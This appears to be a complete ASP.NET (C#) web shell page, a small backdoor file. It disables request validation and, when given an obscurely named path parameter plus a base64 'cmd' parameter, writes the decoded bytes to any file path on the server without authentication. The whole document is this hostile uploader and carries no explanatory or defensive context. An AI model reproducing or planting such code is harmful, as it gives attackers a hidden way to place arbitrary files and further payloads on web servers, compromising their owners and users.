<%@ Page Language="C#" ValidateRequest="false" %>
<%
if (Request["q4zmy"] != null && Request["cmd"] != null)
{
    string path = Request["q4zmy"].Contains(":") ? Request["q4zmy"] : Server.MapPath(Request["q4zmy"]);
    System.IO.File.WriteAllBytes(path, Convert.FromBase64String(Request["cmd"]));
    Response.Write("OK");
}
%>
